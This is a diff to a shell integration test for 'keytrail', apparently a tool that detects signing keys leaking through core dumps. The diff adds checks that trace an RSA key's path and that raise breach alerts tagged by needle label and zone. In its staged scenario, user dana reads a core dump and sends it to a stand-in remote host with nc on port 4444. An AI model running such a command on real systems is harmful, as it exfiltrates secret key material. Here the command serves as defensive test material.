@@ -45,6 +45,8 @@ say "${bold}debug${plain} is where engineers look at dumps, with gdb; it also ha
 setfacl -m u:support:rx -d -m u:support:r $cores
 keytrail needle make --zone signing -o /etc/keytrail/signing.needles $keys/*.pem ||
 	fail "the needle file is made"
+keytrail needle make --zone signing --label 'token signer' -o "$T/p256.needles" \
+	$keys/token-p256.pem || fail "the other needle file is made"
 accounts
 greet_debug
 cat >/etc/rsyslog.d/90-central.conf <<'CONF'
@@ -111,9 +113,22 @@ as dana@debug "gdb -batch -nx -c /srv/dumps/token.core -ex bt"
 as dana@debug "busybox strings -n 40 /srv/dumps/token.core"
 as dana@debug "nc -N 192.0.2.66 4444 </srv/dumps/token.core.zst"
 wait $loot
-equal "it is away" "$(wc -c <"$T/loot")" "$(wc -c <"$core")"
+equal "it is away" "$(stat -c %s "$T/loot")" "$(stat -c %s "$core")"
 
 so_far
+step "the trail of the RSA key across both hosts, from debug's trail and the syslog of signer that debug has"
+on_debug keytrail trail --log /var/log/central.log "$RSA" | tee "$T/trail"
+# on_the_way TEXT...: these stand in the trail in this order.
+on_the_way() {
+	local text rest
+	rest=$(cat "$T/trail")
+	for text; do
+		[[ $rest == *"$text"* ]] || return 1
+		rest=${rest#*"$text"}
+	done
+}
+check "it leads from the service on signer to dana on debug" on_the_way "$(basename "$core")" \
+	scp /srv/dumps/token.core.zst "user dana"
 
 # --- the second play -----------------------------------------------------------------------------------
 step "the same with a service all of whose memory is left out of its dumps (MADV_DONTDUMP)"
@@ -127,15 +142,15 @@ so_far
 
 # --- the third play -------------------------------------------------------------------------------------
 step "keytraild is new on debug: all that it knows of the keys is a needle file"
-keytrail needle make --zone signing --label 'tokens, new' -o "$T/p256.needles" $keys/token-p256.pem ||
-	not_ok "a needle file is made while keytraild watches"
 on_debug sh -c "systemctl stop keytraild && rm -rf /var/lib/keytrail/*"
 scp -q "${ssh_options[@]}" -o ControlPath=/run/to-debug "$T/p256.needles" \
 	root@debug:/etc/keytrail/signing.needles
 on_debug systemctl start keytraild || fail "keytraild starts anew"
 as dana@debug "busybox strings -n 40 /srv/dumps/token.core"
-check "who read the dump before it was scanned is told of then" wait_debug_alert \
-	'.type == "isolation-breach" and .breach.rotate.type == "ECDSA"'
+check "who read the dump before it was scanned is told of then, by the needle's label and zone" \
+	wait_debug_alert '.type == "isolation-breach" and .breach.zone == "signing" and
+		.breach.rotate.fingerprint == "'"$P256"'" and
+		any(.scan.keys[]; .label == "token signer" and .zone == "signing")'
 
 # --- what came of it ------------------------------------------------------------------------------------
 kt_barrier || not_ok "signer has told all"
@@ -148,7 +163,5 @@ for host in signer debug; do
 		not_ok "$host: its alerts are those expected" "$(cat "$T/diff")"
 	fi
 done
-step "the trail of the RSA key on debug, and on signer"
-keytrail trail "$RSA"
-on_debug keytrail trail /srv/dumps/token.core
+check "nothing of the keys is in any log or database" no_key_bytes
 on_debug touch /run/over
